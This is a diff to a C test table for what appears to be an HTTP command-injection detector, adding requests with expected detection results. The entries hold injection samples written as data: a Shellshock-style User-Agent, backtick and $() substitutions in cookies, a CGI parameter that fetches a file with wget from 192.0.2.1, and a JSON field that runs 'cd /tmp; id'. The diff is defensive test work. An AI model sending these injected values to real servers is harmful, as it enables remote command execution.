@@ -84,7 +84,11 @@ static const struct {
     { FORM("/x", "a=b&c=(x;+y)"), "" },
     { SOAP("/x", "<a>;uname -a</a>"), "| uname -a" },
     { "GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :;}; /bin/id\r\n", "", "cgi-function| /bin/id" },
-    { "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; id) `id`\r\n", "", "" },
+    { "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; id; `x`) $y\r\nCookie: a=b; id=1; sh\r\n", "", "" },
+    { "GET / HTTP/1.1\r\nCookie: uid=`id`; a=$(x)\r\n", "", "| id" },
+    { GET("/a.cgi?x=1&cmd=wget%20http://192.0.2.1/a"), "| wget http://192.0.2.1/a" },
+    { GET("/a.cgi?cmd=login&command=list"), "" },
+    { FORM("/rpc", "{\"method\":\"x\",\"Command\":\"cd /tmp; id\"}"), "| cd /tmp; id" },
 };
 
 static void feed(struct http_request *r, const char *head, const char *body)
